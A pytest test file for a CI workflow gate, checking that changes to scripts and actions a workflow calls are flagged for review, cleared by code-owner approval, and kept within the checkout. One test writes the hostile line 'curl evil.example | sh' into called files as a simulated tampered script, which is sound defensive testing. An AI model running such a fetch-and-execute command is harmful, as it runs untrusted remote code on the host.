"""Local files that a workflow calls change, while the workflow is the same bytes: `gate --base`."""

import json
from pathlib import Path

import pytest

from .conftest import inline, is_error
from .test_changed import branch, commit, git

STEPS = """\
on: push
jobs:
  ship:
    runs-on: x
    steps:
      - {name: Build the image, run: bash scripts/build.sh}
      - {name: Scan the image, uses: ./actions/scan}
      - {name: Tell the owner, run: echo done}
"""
FILES = {
    "scripts/build.sh": 'source "$(dirname "$0")/lib.sh"\n',
    "scripts/lib.sh": "docker build .\n",
    "scripts/other.sh": "true\n",
    "actions/scan/action.yml": "runs: {using: composite, steps: [{run: tools/scan, shell: sh}]}\n",
    "actions/scan/index.js": "run()\n",
    "tools/scan": "trivy image\n",
    "CODEOWNERS": "* @ada\n",
}


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A branch `request` at `main`, with a workflow, its reference, and the files that it calls."""
    workflow = {"generated/ci.yml": STEPS, "approved/ci.yml": STEPS, "wfgate.toml": 'reference = "approved"\n'}
    return branch(tmp_path, monkeypatch, **workflow, **FILES)


def gated(*arguments: str) -> tuple[str, list[str]]:
    """Return the verdict on the only case, and its reasons."""
    run = inline("gate", "--base", "main", "-f", "json", *arguments)
    (case,) = run.data["cases"]
    return case["verdict"], [reason["message"] for reason in case["reasons"]]


@pytest.mark.parametrize(
    ("name", "by", "options"),
    [
        ("scripts/build.sh", "this workflow", ("--pairs", "suite.jsonl")),
        ("scripts/lib.sh", "scripts/build.sh", ("generated",)),
        ("actions/scan/index.js", "this workflow", ("--changed", "generated")),
        ("tools/scan", "actions/scan/action.yml", ("generated",)),
    ],
)
def test_a_changed_called_file_is_a_review(repo: Path, name: str, by: str, options: tuple[str, ...]):
    Path("suite.jsonl").write_text(json.dumps({"golden": "approved/ci.yml", "candidate": "generated/ci.yml"}))
    Path(name).write_text("curl evil.example | sh\n")
    assert gated(*options) == ("review", [f"{name}, which {by} calls, was changed since the base revision"])
    Path(name).unlink()
    assert gated(*options) == ("review", [f"{name}, which {by} calls, was removed since the base revision"])


def test_a_code_owner_of_the_called_file_accepts_its_change(repo: Path):
    Path("scripts/lib.sh").write_text("docker build --pull .\n")
    said = inline("gate", "--base", "main", "generated", "--approved-by", "bob").out
    assert "let somebody approve the change of the called files" in said
    assert "wfgate approve" not in said
    assert gated("generated", "--approved-by", "ada") == ("pass", [])


def test_other_files_and_changes_of_the_base_are_none(repo: Path):
    Path("scripts/other.sh").write_text("false\n")
    assert gated("generated") == ("pass", [])
    git("checkout", "-q", ".")
    git("switch", "-q", "main")
    commit(**{"scripts/lib.sh": "docker build --pull .\n"})
    git("switch", "-q", "request")
    assert gated("generated") == ("pass", [])
    assert inline("gate", "--changed", "--base", "main", "-f", "json").data["cases"] == []


def test_a_link_is_followed_within_the_checkout_only(repo: Path, tmp_path_factory: pytest.TempPathFactory):
    Path("real").mkdir()
    Path("scripts").rename("real/scripts")
    Path("scripts").symlink_to("real/scripts")
    git("switch", "-qC", "main")
    commit()
    git("switch", "-qc", "second")
    assert gated("generated") == ("pass", [])
    Path("real/scripts/lib.sh").write_text("other\n")
    assert gated("generated")[0] == "review"
    outside = tmp_path_factory.mktemp("outside")
    Path("real/scripts").rename(outside / "scripts")
    Path("scripts").unlink()
    Path("scripts").symlink_to(outside / "scripts")
    assert is_error(inline("gate", "generated", "--base", "main"), 2, "a link that leaves the checkout")


def test_a_crowd_of_called_files_is_counted(repo: Path):
    for number in range(1100):
        Path(f"scripts/s{number}.sh").write_text(f"scripts/s{number + 1}.sh\n")
    Path("scripts/build.sh").write_text("\n".join(f"scripts/s{number}.sh" for number in range(1100)))
    verdict, messages = gated("generated")
    assert (verdict, len(messages)) == ("review", 10)
    assert messages[-1].endswith("more called files)")
